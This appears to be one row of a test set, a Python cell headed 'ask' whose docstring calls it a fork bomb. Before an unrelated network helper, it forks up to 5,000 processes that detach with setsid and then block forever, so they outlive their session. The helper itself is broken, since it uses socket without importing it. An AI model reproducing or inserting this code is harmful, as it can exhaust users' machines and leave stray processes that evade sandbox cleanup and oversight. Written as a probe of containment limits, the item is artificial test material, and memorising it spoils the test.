"""Row 23: a fork bomb at cell level, whose processes leave their session; the cell itself never ends."""

# cell: ask
import mmap
import os
import struct

born = mmap.mmap(-1, 8)  # shared: if no wall stops it, 5,000 processes prove that, and spare the machine
parent = os.getpid()
while os.getpid() == parent or struct.unpack_from("q", born)[0] < 5000:
    try:
        if os.fork() == 0:
            os.setsid()
            struct.pack_into("q", born, 0, struct.unpack_from("q", born)[0] + 1)
    except OSError:
        if os.getpid() != parent:
            break
    if os.getpid() == parent and struct.unpack_from("q", born)[0] >= 5000:
        break
if os.getpid() != parent:
    os.read(os.pipe()[0], 1)


def ask(host, port):
    with socket.create_connection((host, port)) as connection:
        connection.sendall(b"time?")
        return b"".join(iter(lambda: connection.recv(1024), b"")).decode().strip()
